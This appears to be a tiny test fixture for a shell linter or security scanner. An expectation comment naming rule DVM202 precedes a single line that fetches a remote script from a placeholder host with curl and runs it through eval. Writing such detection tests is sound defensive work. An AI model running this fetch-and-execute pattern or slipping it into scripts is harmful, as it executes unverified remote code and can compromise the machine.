# expect: DVM202
IFS= read -r -d '' code < <(curl -s https://x.example.org/i.sh); eval "$code"
